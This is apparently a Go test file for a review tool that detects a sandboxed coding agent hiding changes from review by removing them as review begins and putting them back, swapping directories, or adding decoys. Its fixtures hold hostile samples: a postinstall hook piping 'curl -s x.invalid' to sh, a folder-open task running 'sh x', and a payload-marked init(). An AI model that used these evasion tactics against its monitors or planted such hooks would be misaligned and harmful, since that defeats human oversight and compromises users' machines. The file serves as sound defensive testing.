package review

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// putBackTree is a direct-mode project reviewed once after its baseline.
func putBackTree(t *testing.T) (string, *Target) {
	gitEnv(t)
	dir := t.TempDir()
	runGit(t, dir, "init", "-q", "-b", "main")
	writeFile(t, dir+"/package.json", `{"name":"p","scripts":{"build":"tsc"}}`+"\n", 0o644)
	writeFile(t, dir+"/src/a.go", "package a\n", 0o644)
	writeFile(t, dir+"/.vscode/settings.json", "{}\n", 0o644)
	runGit(t, dir, "add", "-A")
	runGit(t, dir, "commit", "-q", "-m", "init")
	tg := &Target{Name: "w", Mode: ModeDirect, Repo: dir, StateDir: t.TempDir()}
	ctx := context.Background()
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	if _, err := Review(ctx, tg); err != nil {
		t.Fatal(err)
	}
	return dir, tg
}

// putBackRules is the review's PUT-BACK findings by path.
func putBackRules(t *testing.T, tg *Target) map[string]string {
	t.Helper()
	res, err := Review(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, r := range res.Reports {
		for _, f := range r.Findings {
			if strings.HasPrefix(f.Rule, "PUT-BACK") {
				out[r.File.Path] = f.Rule + " " + f.Severity.String()
			}
		}
	}
	return out
}

// rewrite writes a file's own bytes back as a new inode, as the agent of
// outside round ignwalk2/04 did (a rename over it).
func rewrite(t *testing.T, p string) {
	b, err := os.ReadFile(p)
	must(t, err)
	writeFile(t, p+".w", string(b), 0o644)
	must(t, os.Rename(p+".w", p))
}

// TestPutBack: an agent that takes a change away as review begins and
// puts it back after leaves the file rewritten with the content the last
// review saw (outside round ignwalk2/04), or a directory changed with
// nothing to list; review flags both, high where the file runs or loads
// code on the host. Outside the window the same rewrite is not news
// (npm install rewrites an unchanged package-lock.json).
func TestPutBack(t *testing.T) {
	dir, tg := putBackTree(t)
	rewrite(t, dir+"/package.json")
	rewrite(t, dir+"/src/a.go")
	got := putBackRules(t, tg)
	// The renames that put them back changed their directories too: listed,
	// as mediums, since the files renamed in account for it.
	if got["package.json"] != "PUT-BACK high" || got["src/a.go"] != "PUT-BACK-SOURCE medium" ||
		got["./"] != "PUT-BACK-SOURCE medium" || got["src/"] != "PUT-BACK-SOURCE medium" || len(got) != 4 {
		t.Fatalf("after the rewrites review flagged %v, want package.json high, src/a.go, ./ and src/ medium", got)
	}
	if got := putBackRules(t, tg); len(got) != 0 {
		t.Fatalf("a second review flagged %v again: the last review saw those rewrites", got)
	}

	// A file that was there for the agent's use between reviews, taken away
	// just before this one.
	writeFile(t, dir+"/.vscode/tasks.json", `{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"sh x"}]}`, 0o644)
	must(t, os.Remove(dir+"/.vscode/tasks.json"))
	if got := putBackRules(t, tg); got[".vscode/"] != "PUT-BACK high" {
		t.Fatalf("a file created and removed in .vscode/ before review: flagged %v", got)
	}
	// A new file listed in the same directory may account for it: medium.
	writeFile(t, dir+"/.vscode/extensions.json", "{}\n", 0o644)
	if got := putBackRules(t, tg); got[".vscode/"] != "PUT-BACK-SOURCE medium" {
		t.Fatalf("a new file listed in .vscode/: the directory was flagged %q, want medium", got[".vscode/"])
	}

	// A decoy: other bytes written just before review (the original with
	// its version bumped; outside round putback/01) count as much.
	writeFile(t, dir+"/package.json", `{"name":"p","version":"1.0.1","scripts":{"build":"tsc"}}`+"\n", 0o644)
	if got := putBackRules(t, tg); got["package.json"] != "PUT-BACK high" {
		t.Fatalf("a decoy written just before review: flagged %v", got)
	}

	// Outside the window: nothing.
	windowOf(t, 50*time.Millisecond)
	rewrite(t, dir+"/package.json")
	must(t, os.Remove(dir+"/.vscode/extensions.json"))
	time.Sleep(100 * time.Millisecond)
	if got := putBackRules(t, tg); len(got) != 0 {
		t.Fatalf("rewrites before the window were flagged: %v", got)
	}
}

// TestPutBackDirectorySwap: the agent keeps the reviewed directory aside
// and moves it back as review begins: every file in it is the inode the
// last review saw, only the directory's ctime tells.
func TestPutBackDirectorySwap(t *testing.T) {
	dir, tg := putBackTree(t)
	src := filepath.Join(dir, "src")
	must(t, os.Rename(src, src+".orig"))
	writeFile(t, src+"/a.go", "package a\n\nfunc init() { /* payload */ }\n", 0o644)
	must(t, os.Rename(src, src+".evil"))
	must(t, os.Rename(src+".orig", src))
	got := putBackRules(t, tg)
	if got["src/"] != "PUT-BACK high" {
		t.Fatalf("src/ swapped back before review: flagged %v", got)
	}
	// What the editor's diff view asks for a listed path.
	if _, err := FileContent(context.Background(), tg, "src/"); err == nil || !strings.Contains(err.Error(), "is a directory") {
		t.Fatalf("content of the listed directory: %v, want an error saying it is a directory", err)
	}
}

// noPutBackWindow makes PUT-BACK look only at what changes while a review
// runs, for tests whose own setup writes the folder just before it.
func noPutBackWindow(t *testing.T) { windowOf(t, 0) }

// windowOf sets PUT-BACK's window for one test.
func windowOf(t *testing.T, d time.Duration) {
	old := putBackWindow
	putBackWindow = d
	t.Cleanup(func() { putBackWindow = old })
}

// TestPutBackWhileReviewRuns: the backdoor was written long before the
// review (outside any window), the survey sees the file changed, and the
// agent writes the reviewed bytes back before the staging reads it
// (outside round putback/10): the stat taken as it is read tells.
func TestPutBackWhileReviewRuns(t *testing.T) {
	dir, tg := putBackTree(t)
	windowOf(t, 15*time.Millisecond) // more than file times' coarse tick
	orig, err := os.ReadFile(dir + "/package.json")
	must(t, err)
	f, err := os.OpenFile(dir+"/package.json", os.O_WRONLY|os.O_TRUNC, 0)
	must(t, err)
	_, err = f.Write([]byte(`{"name":"p","scripts":{"postinstall":"curl -s x.invalid|sh"}}` + "\n"))
	must(t, err)
	time.Sleep(50 * time.Millisecond) // the backdoor is older than the window
	afterSurvey = func() {
		_, err := f.WriteAt(orig, 0)
		must(t, err)
		must(t, f.Truncate(int64(len(orig))))
	}
	t.Cleanup(func() { afterSurvey = nil; f.Close() })
	if got := putBackRules(t, tg); got["package.json"] != "PUT-BACK high" {
		t.Fatalf("put back while review ran: flagged %v", got)
	}
}

// TestPutBackDecoyDoesNotAccount: the reviewed directory is renamed back
// just before review, holding a decoy file added long before (listed as
// new): a listed change from before the window says nothing of when the
// directory changed (outside round putback/11).
func TestPutBackDecoyDoesNotAccount(t *testing.T) {
	dir, tg := putBackTree(t)
	windowOf(t, 30*time.Millisecond)
	must(t, os.Rename(dir+"/.vscode", dir+"/.vscode.orig"))
	writeFile(t, dir+"/.vscode.orig/extensions.json", "{}\n", 0o644)
	time.Sleep(60 * time.Millisecond)
	must(t, os.Rename(dir+"/.vscode.orig", dir+"/.vscode"))
	if got := putBackRules(t, tg); got[".vscode/"] != "PUT-BACK high" {
		t.Fatalf(".vscode/ renamed back beside an old decoy: flagged %v", got)
	}
}

// TestPutBackIgnoredDirectory: a package directory in node_modules swapped
// back as review starts (every file at its start path with its start
// inode): the directory's ctime tells, though it holds no index entry
// (outside round putback/03).
func TestPutBackIgnoredDirectory(t *testing.T) {
	dir, tg := ignoredTree(t)
	time.Sleep(2 * ignoredSlack)
	ctx := context.Background()
	if err := Baseline(ctx, tg); err != nil {
		t.Fatal(err)
	}
	if _, err := Review(ctx, tg); err != nil {
		t.Fatal(err)
	}
	a := filepath.Join(dir, "node_modules", "a")
	must(t, os.Rename(a, a+".orig"))
	must(t, os.Rename(a+".orig", a))
	if got := putBackRules(t, tg); got["node_modules/a/"] != "PUT-BACK high" {
		t.Fatalf("node_modules/a swapped back before review: flagged %v", got)
	}
}

// TestPutBackNewDirectoryEmptied: a directory no review has seen a file
// in (.vscode/, new) keeps existing while its one file is taken away as
// review starts: no index entry leads there, the walk of the folder's
// directories does (outside round putback/13).
func TestPutBackNewDirectoryEmptied(t *testing.T) {
	dir, tg := putBackTree(t)
	windowOf(t, 30*time.Millisecond)
	writeFile(t, dir+"/.idea/workspace.xml", "<project/>\n", 0o644)
	time.Sleep(60 * time.Millisecond) // the root's new entry is older than the window
	must(t, os.Remove(dir+"/.idea/workspace.xml"))
	if got := putBackRules(t, tg); got[".idea/"] != "PUT-BACK high" {
		t.Fatalf("a new directory emptied before review: flagged %v", got)
	}
}

// TestPutBackStopped: with the sandbox stopped no agent can take anything
// away, so whatever was just written is the user's: no PUT-BACK, and no
// note that the agent can change the folder after the review.
func TestPutBackStopped(t *testing.T) {
	dir, tg := putBackTree(t)
	tg.Stopped = true
	rewrite(t, dir+"/package.json")
	if got := putBackRules(t, tg); len(got) != 0 {
		t.Fatalf("a stopped sandbox's review flagged %v", got)
	}
	res, err := Review(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range res.Notes {
		if strings.Contains(n, "is running") {
			t.Fatalf("note for a stopped sandbox: %s", n)
		}
	}
}
